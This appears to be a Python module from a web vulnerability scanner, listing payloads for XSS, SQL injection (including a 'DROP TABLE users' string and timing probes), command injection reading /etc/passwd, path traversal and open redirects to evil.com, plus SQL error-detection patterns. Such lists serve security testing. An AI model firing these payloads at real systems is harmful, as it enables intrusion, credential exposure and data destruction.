"""
Shared adversarial payloads.

Probes take a fixed-size prefix of these lists, so the most productive
payloads come first. Category-specific payloads live with their probes.
"""

import re

# ============================================================================
# Cross-Site Scripting
# ============================================================================

XSS_PAYLOADS = [
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "\"><script>alert('XSS')</script>",
    "<svg onload=alert('XSS')>",
    "'\"><img src=x onerror=window.__xss_triggered__=true>",
    "javascript:alert('XSS')",
    "<body onload=alert('XSS')>",
    "<iframe src=\"javascript:alert('XSS')\">",
]

# ============================================================================
# SQL Injection
# ============================================================================

SQLI_PAYLOADS = [
    "'",
    "' OR '1'='1",
    "' OR '1'='1' --",
    "\" OR \"1\"=\"1",
    "1' ORDER BY 100--",
    "' UNION SELECT NULL--",
    "1; DROP TABLE users--",
    "admin'--",
]

SQLI_ERROR_PATTERNS = [
    re.compile(r"SQL syntax.*MySQL", re.IGNORECASE),
    re.compile(r"Warning.*mysql_", re.IGNORECASE),
    re.compile(r"MySqlException", re.IGNORECASE),
    re.compile(r"valid MySQL result", re.IGNORECASE),
    re.compile(r"PostgreSQL.*ERROR", re.IGNORECASE),
    re.compile(r"Warning.*\Wpg_", re.IGNORECASE),
    re.compile(r"valid PostgreSQL result", re.IGNORECASE),
    re.compile(r"Npgsql\.", re.IGNORECASE),
    re.compile(r"Driver.*SQL[\-_ ]*Server", re.IGNORECASE),
    re.compile(r"OLE DB.*SQL Server", re.IGNORECASE),
    re.compile(r"Unclosed quotation mark after the character string", re.IGNORECASE),
    re.compile(r"Microsoft SQL Native Client error", re.IGNORECASE),
    re.compile(r"ORA-\d{5}"),
    re.compile(r"Oracle error", re.IGNORECASE),
    re.compile(r"SQLite/JDBCDriver", re.IGNORECASE),
    re.compile(r"SQLite\.Exception", re.IGNORECASE),
    re.compile(r"SQLITE_ERROR"),
    re.compile(r"sqlite3\.OperationalError", re.IGNORECASE),
    re.compile(r"quoted string not properly terminated", re.IGNORECASE),
    re.compile(r"syntax error at or near", re.IGNORECASE),
]

SQLI_TIMING_PAYLOADS = [
    "'; WAITFOR DELAY '0:0:5'--",
    "'; SELECT SLEEP(5)--",
    "' OR SLEEP(5)--",
]

# ============================================================================
# Command Injection
# ============================================================================

COMMAND_INJECTION_PAYLOADS = [
    "; id",
    "| id",
    "`id`",
    "$(id)",
    "; ls -la",
    "&& whoami",
    "| cat /etc/passwd",
]

# ============================================================================
# Path Traversal
# ============================================================================

PATH_TRAVERSAL_PAYLOADS = [
    "../../etc/passwd",
    "../../../../../../etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
]

# ============================================================================
# Open Redirect
# ============================================================================

OPEN_REDIRECT_PAYLOADS = [
    "https://evil.com",
    "//evil.com",
    "https://evil.com%2F%2E%2E",
    "https://trusted.com@evil.com",
    "/\\evil.com",
    "https:evil.com",
]
